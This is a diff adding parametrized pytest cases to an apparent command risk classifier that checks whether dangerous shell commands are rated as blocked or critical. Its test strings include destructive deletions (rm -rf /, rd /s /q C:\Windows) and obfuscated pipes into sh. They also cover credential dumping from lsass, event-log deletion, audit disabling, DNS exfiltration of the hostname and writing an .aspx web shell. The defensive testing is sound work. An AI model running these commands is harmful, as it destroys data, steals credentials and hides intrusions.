@@ -239,3 +239,82 @@ def test_generated_command_lines(command: str, expected: RiskLevel) -> None:
 )
 def test_cmd_parentheses(command: str, expected: RiskLevel) -> None:
     assert level(command, "cmd") == expected, command
+
+
+# --- Round 5 families ------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "command,shell",
+    [
+        ("fennel -e '(os.execute \"rm -rf /\")'", "bash"),  # unknown interpreter, shell-out
+        ("nim e --eval:'import os; removeDir(getHomeDir())'", "bash"),
+        ("vlang -e 'os.rmdir_all(os.home_dir())'", "bash"),
+        ("python3 -I -s -c 'import shutil; shutil.rmtree(\"/usr\")'", "bash"),
+        ('bb -e \'(clojure.java.shell/sh "rm" "-rf" (System/getenv "HOME"))\'', "bash"),
+        ("duplicacy --ssh-command 'rm -rf ~' list", "bash"),  # hook-named option
+        ("opam exec -- rm -rf ~", "bash"),
+        ("lxd-tool exec vm1 -- rm -rf /", "bash"),
+        ("wt -w 0 nt -p Shell cmd /c rd /s /q C:\\Windows", "cmd"),
+        ("$f = gcm Remove-Ite?; & $f C:\\Users -Recurse -Force", "powershell"),
+        ("& (Get-Command -Name Clear-Dis*) -Number 0 -RemoveData -Confirm:$false", "powershell"),
+        ("rmdir/q/s C:\\Windows", "cmd"),
+        ("erase/f/s/q %USERPROFILE%\\*", "cmd"),
+        ("rd /s /q C:\\PROGRA~2", "cmd"),
+        ("echo 'Zrm -rf /' | cut -c2- | sh", "bash"),
+        ("echo 'k=rm -rf ~' | cut -d= -f2 | bash", "bash"),
+        ("seq 1 | sponge /etc/shadow", "bash"),
+    ],
+)
+def test_round5_mechanisms_blocked(command: str, shell: str) -> None:
+    assert level(command, shell) == B, command
+
+
+@pytest.mark.parametrize(
+    "command,shell",
+    [
+        ('[Net.Dns]::GetHostEntry("$env:COMPUTERNAME.$env:USERDOMAIN.h.example")', "powershell"),
+        ("[System.Net.Dns]::GetHostAddresses((hostname) + '.h.example')", "powershell"),
+        ("journalctl --vacuum-files=1", "bash"),
+        ("sysctl -w kernel.dmesg_restrict=0", "bash"),
+        ("sysctl -w fs.protected_symlinks=0", "bash"),
+        ("grubby --update-kernel=ALL --args='audit=0'", "bash"),
+        ("semanage permissive --add sshd_t", "bash"),
+        ("procdump64 -ma lsass C:\\x\\o.dmp", "cmd"),
+        ("del C:\\Windows\\System32\\winevt\\Logs\\System.evtx", "cmd"),
+        (
+            "Out-File -FilePath C:\\inetpub\\wwwroot\\aspnet_client\\s.aspx -InputObject $x",
+            "powershell",
+        ),
+        ("nmap --script=/dev/shm/x.nse h.example", "bash"),
+    ],
+)
+def test_round5_mechanisms_critical(command: str, shell: str) -> None:
+    assert level(command, shell) == C, command
+
+
+@pytest.mark.parametrize(
+    "command,shell,most",
+    [
+        ("python3 -I -c 'print(2)'", "bash", S),
+        ("fennel -e '(print \"rm -rf /\")'", "bash", M),
+        ("[Net.Dns]::GetHostEntry('intranet.example.com')", "powershell", S),
+        ("journalctl -b -p err", "bash", S),
+        ("sysctl -w kernel.dmesg_restrict=1", "bash", M),
+        ("grubby --info=ALL", "bash", S),
+        ("semanage fcontext -l", "bash", S),
+        ("procdump -ma 4242 app.dmp", "cmd", M),
+        ("Get-Content C:\\inetpub\\wwwroot\\web.aspx", "powershell", S),
+        ("dir/b/s C:\\Windows", "cmd", S),
+        ("echo 'xls -l' | cut -c2- | sh", "bash", M),
+        ("findmnt -t ext4", "bash", S),
+        ("blockdev --getbsz /dev/sda", "bash", S),
+        ("hdparm -I /dev/sda", "bash", S),
+        ("smartctl -a /dev/nvme0", "bash", S),
+        ("kmod list", "bash", S),
+        ("fsutil volume diskfree C:", "cmd", S),
+        ("opam exec -- dune build", "bash", M),
+    ],
+)
+def test_round5_look_alikes(command: str, shell: str, most: RiskLevel) -> None:
+    assert level(command, shell) <= most, command
